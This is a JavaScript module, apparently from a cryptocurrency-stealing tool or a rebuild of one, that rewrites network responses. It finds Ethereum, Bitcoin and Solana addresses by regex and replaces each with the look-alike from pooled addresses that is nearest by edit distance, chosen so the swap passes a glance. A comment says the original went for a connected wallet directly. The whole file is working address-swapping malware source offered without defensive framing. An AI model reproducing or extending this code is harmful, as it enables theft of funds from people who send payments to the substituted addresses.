// Owns the choice of a replacement: the pool entry with the smallest edit distance, so the ends of an address survive a glance.

import { isOurs, POOLS } from './pools.js';

/** What the network rewriter looks for. Addresses inside calldata and hashes are longer, so the word boundary skips them. */
const PATTERNS = [
  { pool: POOLS.ethereum, pattern: /\b0x[a-fA-F0-9]{40}\b/g, onlyWithoutWallet: true },
  { pool: POOLS.bitcoinLegacy, pattern: /\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\b/g },
  {
    pool: POOLS.bitcoinSegwit,
    pattern: /\b(?:3[a-km-zA-HJ-NP-Z1-9]{25,34}|bc1[qpzry9x8gf2tvdw0s3jn54khce6mua7l]{11,71})\b/g,
  },
  { pool: POOLS.solana, pattern: /(?<!\w)[4-9A-HJ-NP-Za-km-z][1-9A-HJ-NP-Za-km-z]{32,44}(?!\w)/g },
];

/** Levenshtein distance of two strings, whole matrix in one rolling row. */
function distance(a, b) {
  let row = Array.from({ length: b.length + 1 }, (_, column) => column);
  for (let i = 1; i <= a.length; i += 1) {
    const next = [i];
    for (let j = 1; j <= b.length; j += 1) {
      const substituted = row[j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1);
      next.push(Math.min(substituted, row[j] + 1, next[j - 1] + 1));
    }
    row = next;
  }
  return row[b.length];
}

/** The entry of `pool` that reads most like `address`; a tie goes to the first. */
export function nearest(address, pool) {
  let best = pool[0];
  let least = Infinity;
  for (const candidate of pool) {
    const apart = distance(address.toLowerCase(), candidate.toLowerCase());
    if (apart < least) {
      least = apart;
      best = candidate;
    }
  }
  return best;
}

/** `text` with every address replaced by its nearest look-alike. */
export function replaceAddresses(text, { walletConnected }) {
  let rewritten = text;
  for (const { pool, pattern, onlyWithoutWallet } of PATTERNS) {
    // With a wallet connected the original left Ethereum addresses in responses alone and went for the wallet itself.
    if (onlyWithoutWallet && walletConnected) continue;
    rewritten = rewritten.replace(pattern, (match) => (isOurs(match) ? match : nearest(match, pool)));
  }
  return rewritten;
}
